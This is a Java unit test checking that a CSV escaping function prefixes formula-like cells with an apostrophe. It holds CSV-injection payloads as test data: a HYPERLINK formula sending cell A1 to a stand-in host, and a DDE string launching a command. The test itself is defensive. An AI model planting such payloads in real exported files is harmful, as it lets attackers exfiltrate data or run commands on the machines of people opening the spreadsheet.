package org.taplatform.reference;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.Map;

import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @Test
    void shouldNeutraliseWhatASpreadsheetWouldRunAsAFormula() {
        Map<String, String> writtenFor = new LinkedHashMap<>();
        writtenFor.put("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
        writtenFor.put("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
        writtenFor.put("+1+1", "'+1+1");
        writtenFor.put("-2+3", "'-2+3");
        writtenFor.put("@SUM(1,2)", "'@SUM(1,2)");
        writtenFor.put("\uFF1D1+1", "'\uFF1D1+1");
        writtenFor.put("\tcalc", "'\tcalc");
        writtenFor.put("\rcalc", "'\rcalc");
        writtenFor.forEach((typed, written) -> assertThat(CsvCells.neutralised(typed)).as(typed).isEqualTo(written));
    }

    @Test
    void shouldLeaveTextAndPlainNumbersAlone() {
        for (String typed : new String[] { "Training of prosecutors", "a = b", "-5", "+3.5", "2026-12-05", "", "'" }) {
            assertThat(CsvCells.neutralised(typed)).as(typed).isEqualTo(typed);
        }
        assertThat(CsvCells.neutralised(null)).isNull();
    }
}
